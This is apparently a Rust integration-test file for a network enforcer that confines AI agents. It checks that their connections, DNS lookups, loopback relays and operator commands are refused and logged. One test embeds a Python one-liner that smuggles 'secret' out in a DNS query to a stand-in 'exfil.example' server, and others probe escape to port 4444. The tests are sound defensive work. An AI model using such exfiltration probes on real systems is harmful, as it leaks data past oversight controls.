//! Capture: whatever an agent connects to, it ends at the enforcer, and nothing else notices.

use std::net::SocketAddr;
use std::process::Stdio;
use std::sync::Arc;
use std::time::Instant;

use enforcer_tests::namespace::Namespace;
use enforcer_tests::probe::{Attempt, Connected, Exchange};
use serde::Deserialize;

use crate::stage::{OUTSIDE, PATIENCE, Stage};

#[derive(Deserialize)]
struct Resolved {
    addresses: Vec<String>,
    error: Option<String>,
}

const SIX: &str = "[2001:db8:9::9]:443";
const MAPPED: &str = "[::ffff:203.0.113.9]:443";

#[test]
fn a_redirected_socket_still_shows_the_peer_it_asked_for() {
    let Some(stage) = Stage::new() else { return };
    let four = format!("{OUTSIDE}:443");
    for place in [four.as_str(), SIX, MAPPED] {
        let wanted: SocketAddr = place.parse().expect("an address");
        let connected: Connected = stage.agent.probe(&["connect", place]).expect("a probe");
        assert_eq!(connected.peer, Some(wanted), "{place}: {connected:?}");
    }
    assert_eq!(stage.leaked(), []);
}

#[test]
fn every_kind_of_address_reaches_the_enforcer_and_is_recorded() {
    let Some(stage) = Stage::new() else { return };
    let four = format!("{OUTSIDE}:443");
    for place in [four.as_str(), SIX, MAPPED] {
        let exchange: Exchange = stage
            .agent
            .probe(&["raw", place, "--text", "not TLS", "--half-close"])
            .expect("a probe");
        assert_eq!(exchange.received, "", "{place}: {exchange:?}");
    }
    stage.assert_flows_refused(3);
    // What came in the mapped form is the IPv4 destination that it means.
    let opened = stage.ledger().of("flow_opened");
    let destinations: Vec<_> = opened.iter().map(|entry| &entry["original_dst"]).collect();
    assert_eq!(destinations, [&four, SIX, &four]);
    stage.assert_nothing_got_out();
}

#[test]
fn no_kind_of_socket_gets_past() {
    let Some(stage) = Stage::new() else { return };
    for place in ["203.0.113.9:4444", "[2001:db8:9::9]:4444"] {
        let attempts = stage
            .agent
            .probe_lines(&["escape", place, "--patience-ms", "2000"]);
        let attempts: Vec<Attempt> = attempts.expect("a probe");
        assert_eq!(stage.leaked(), [], "{place}: {attempts:#?}");
    }
}

#[test]
fn names_that_a_rule_could_allow_resolve_and_others_do_not_exist() {
    let Some(stage) = Stage::new() else { return };
    let ask = |name| -> Resolved { stage.agent.probe(&["resolve", name]).expect("a probe") };
    for name in ["api.openai.com", "anything.allowed.example"] {
        let resolved = ask(name);
        assert!(
            !resolved.addresses.is_empty(),
            "{name}: {:?}",
            resolved.error
        );
    }
    for name in ["exfil.example", "allowed.example", "evilallowed.example"] {
        let resolved = ask(name);
        assert!(resolved.error.is_some(), "{name}: {:?}", resolved.addresses);
        stage.recorded("name_refused", |entry| entry["name"] == name);
    }
    assert_eq!(stage.leaked(), []);
}

#[test]
fn questions_to_a_name_server_of_the_agents_choice_stay_here() {
    let Some(stage) = Stage::new() else { return };
    let program = "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); \
        s.sendto(b'\\x13\\x37\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\5exfil\\7example\\0\\0\\1\\0\\1', ('203.0.113.53', 53)); \
        a, p = s.recvfrom(512); print(a[3] & 15, p[0], p[1])";
    let finished = stage
        .agent
        .run("python3", &["-c", program])
        .expect("python3");
    // The answer seems to come from the server that was asked.
    assert_eq!(
        finished.stdout.trim(),
        "3 203.0.113.53 53",
        "{}{}",
        finished.stderr,
        stage.ledger().text()
    );
    stage.recorded("name_refused", |entry| {
        entry["name"] == "secret.exfil.example"
    });
    assert_eq!(stage.leaked(), []);
}

#[test]
fn what_listens_on_the_hosts_loopback_is_no_way_out() {
    let Some(stage) = Stage::new() else { return };
    // Any local program could be a relay; here it is the upstream itself.
    for (_, address) in stage.upstream.addresses().to_vec() {
        let place = address.to_string();
        let request = r"GET /test/echo HTTP/1.1\r\nHost: plain.allowed.example\r\n\r\n";
        let sent = ["raw", &place, "--text", request, "--half-close"];
        let exchange: Exchange = stage.agent.probe(&sent).expect("a probe");
        assert!(!exchange.received.contains("200 OK"), "{exchange:?}");
    }
    assert_eq!(stage.upstream.journal().connections(), []);
    stage.assert_nothing_got_out();
}

#[test]
fn an_agent_is_no_operator() {
    let Some(stage) = Stage::new() else { return };
    let enforcer = stage.sandbox.binaries().enforcer.display().to_string();
    let config = stage.daemon.places().config.display().to_string();
    let cgroup = stage.cgroup.path().display().to_string();
    for arguments in [
        &["unlabel", &cgroup][..],
        &["label", &cgroup, "--policy", "other"],
        &["status"],
    ] {
        let arguments = [arguments, &["--config", &config]].concat();
        let finished = stage
            .agent
            .run(&enforcer, &arguments)
            .expect("the enforcer");
        assert_ne!(finished.code(), 0, "{finished:?}");
    }
    let answer = stage.curl(&["https://api.openai.com/v1/files"]);
    assert_eq!(answer.status, 403, "{answer:?}");
    assert_eq!(stage.ledger().of("workload_detached").len(), 0);
}

#[test]
fn whoever_is_not_labelled_is_left_alone() {
    let Some(stage) = Stage::new() else { return };
    let bystander = stage.sandbox.cgroup().expect("a cgroup");
    let agent = stage.daemon.agent(&bystander).expect("an agent");
    let place = format!("{OUTSIDE}:443");
    let connected: Connected = agent.probe(&["connect", &place]).expect("a probe");
    assert!(connected.peer.is_some(), "{connected:?}");
    assert!(!stage.leaked().is_empty());
    assert!(stage.ledger().of("flow_opened").is_empty());
}

#[test]
fn a_connection_without_an_origin_gets_no_service() {
    let Some(stage) = Stage::new() else { return };
    let bystander = stage.sandbox.cgroup().expect("a cgroup");
    let outsider = stage.daemon.agent(&bystander).expect("an agent");
    let ports = listening_ports(stage.daemon.id());
    assert!(!ports.is_empty(), "the daemon listens somewhere");
    for port in ports {
        let place = format!("127.0.0.1:{port}");
        let request = r"GET /test/echo HTTP/1.1\r\nHost: plain.allowed.example\r\n\r\n";
        let exchange: Exchange = outsider
            .probe(&["raw", &place, "--text", request])
            .expect("a probe");
        assert_eq!(exchange.received, "", "port {port}: {exchange:?}");
    }
    stage.assert_nothing_got_out();
}

#[test]
fn an_agent_in_a_network_namespace_of_its_own_is_served() {
    let Some(stage) = Stage::new() else { return };
    // A loopback and nothing else, as `enforcer run` and containers have it.
    let alone = Arc::new(Namespace::new().expect("a namespace"));
    let agent = stage.agent.clone().within(alone);
    let mut command = agent.command("cat");
    let resident = agent
        .start(command.stdin(Stdio::piped()))
        .expect("a process");
    let url = "https://api.openai.com/test/echo";
    let until = Instant::now() + PATIENCE;
    let served = || agent.curl(&["--max-time", "2", url]).expect("curl").status == 200;
    while !served() {
        assert!(
            Instant::now() < until,
            "not served: {}",
            stage.ledger().text()
        );
    }
    assert_eq!(stage.leaked(), []);
    drop(resident);
}

#[test]
fn unlabelling_releases_the_cgroup() {
    let Some(stage) = Stage::new() else { return };
    let path = stage.cgroup.path().display().to_string();
    let unlabelled = stage.daemon.cli(&["unlabel", &path]).expect("unlabel");
    assert_eq!(unlabelled.code(), 0, "{}", unlabelled.stderr);
    stage.recorded("workload_detached", |_| true);
    let place = format!("{OUTSIDE}:443");
    let connected: Connected = stage.agent.probe(&["connect", &place]).expect("a probe");
    assert!(connected.peer.is_some(), "{connected:?}");
    assert!(!stage.leaked().is_empty());
}

/// TCP ports on which something in the process's namespace listens on 127.0.0.1, apart from our upstream's.
fn listening_ports(pid: u32) -> Vec<u16> {
    let descriptors = std::fs::read_dir(format!("/proc/{pid}/fd")).expect("a process");
    let own: Vec<String> = descriptors
        .flatten()
        .filter_map(|entry| std::fs::read_link(entry.path()).ok())
        .filter_map(|link| {
            let name = link.to_string_lossy().into_owned();
            let inode = name.strip_prefix("socket:[")?.strip_suffix(']')?;
            Some(inode.to_owned())
        })
        .collect();
    let table = std::fs::read_to_string(format!("/proc/{pid}/net/tcp")).expect("a table");
    let ports = table.lines().skip(1).filter_map(|line| {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let (local, state, inode) = (fields.get(1)?, fields.get(3)?, fields.get(9)?);
        let is_ours = *state == "0A" && own.iter().any(|own| own == inode);
        let port = local.rsplit(':').next()?;
        is_ours.then(|| u16::from_str_radix(port, 16).ok())?
    });
    ports.collect()
}
